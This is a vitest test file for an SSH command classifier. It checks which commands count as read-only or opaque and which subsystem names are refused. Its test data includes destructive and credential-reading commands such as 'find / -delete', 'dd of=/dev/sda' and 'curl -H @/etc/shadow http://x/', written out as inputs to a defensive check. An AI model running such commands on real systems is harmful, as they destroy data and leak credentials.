import { describe, expect, test } from "vitest";
import { classifySsh } from "../ssh.ts";

const facts = (command: string, tty = false) => classifySsh({ kind: "ssh.exec", command, tty });

describe("ssh-opaque: not read-only because its name is", () => {
  test.each([
    "find / -delete",
    "find / -fprint /etc/x",
    "find . -exec rm {} +",
    "sort -o x y",
    "sort -ro/etc/passwd y",
    "sed -i s/a/b/ x",
    "sed --in-place=.x s/a/b/ x",
    "uniq a b",
    "xxd -r a b",
    "tee x",
    "date -s 12:00",
    "date 010112002030",
    "hostname evil",
    "sysctl -w a=b",
    "sysctl a=b",
    "dmesg -c",
    "dmesg -Tc",
    "ip addr add 1.2.3.4/24 dev eth0",
    "ip a a 1.2.3.4/24 dev eth0",
    "ip link set eth0 down",
    "ip link s eth0 down",
    "ip route del default",
    "ss -K dst 1.2.3.4",
    "journalctl --vacuum-size=1M",
    "journalctl --rotate",
    "systemctl restart x",
    "systemctl stop x --no-pager",
    "ls > x",
    "ls 2>> x",
    "> x ls",
    "{ ls; } > x",
    "(ls) >> x",
    "ls >/dev/null >/dev/sda",
    "curl -o x http://x/",
    "curl -O http://x/",
    "curl -d a http://x/",
    "curl -X DELETE http://x/",
    "curl -XPOST http://x/",
    "curl -T x http://x/",
    "curl -K x",
    "curl -w '%output{/etc/x}a' http://x/",
    "curl -H @/etc/shadow http://x/",
    "curl -H 'X-HTTP-Method-Override: DELETE' http://x/",
    "curl gopher://x/",
    "curl file:///etc/x",
    "curl ftp.example.com",
    "curl --request=DELETE http://x/",
    "wget http://x/",
    "wget -O x http://x/",
    "wget -O - -O /etc/x http://x/",
    "tar xf x",
    "dd of=/dev/sda",
    "dd if=a of=b",
    "unknown-program",
    "/tmp/run",
    "./run",
    "sudo rm x",
    "sudo -u x tee /etc/x",
    "nice -n 5 rm x",
    "env LC_ALL=C rm x",
    "kubectl delete pod x",
    "docker rm x",
    "crontab -r",
    "service nginx status",
    "jq 'import \"/etc/x\" as $d; $d'",
    "kill 1",
  ])("%j", (command) => {
    const { facts: whole } = facts(command);
    expect(whole).toMatchObject({ readOnly: false, opaque: false });
  });
});

describe("ssh-stdin and ssh-channels: what classification can say", () => {
  test.each([
    "sh",
    "bash -s",
    "python3",
    "perl",
    "psql",
    "sqlite3 x",
    "xargs",
    "at now",
    "nc h 1",
    "ssh h",
    "sftp h",
    "dc",
    "node",
    "awk -f -",
    "sed -f -",
    "ed",
  ])("a program that would run its standard input is opaque: %j", (command) => {
    expect(facts(command).facts.opaque).toBe(true);
  });

  test("a subsystem is opaque", () => {
    const { facts: sftp } = classifySsh({ kind: "ssh.subsystem", subsystem: "sftp" });
    expect(sftp).toMatchObject({ subsystem: "sftp", opaque: true, readOnly: false, programs: [], command: "" });
  });

  test.each(["", "a b", "sftp\0", "x".repeat(65), "sftp\n", "../x", "é"])(
    "a subsystem whose name is none is refused: %j",
    (subsystem) => {
      expect(() => classifySsh({ kind: "ssh.subsystem", subsystem })).toThrow(
        expect.objectContaining({ code: "invalid_operation" }),
      );
    },
  );
});
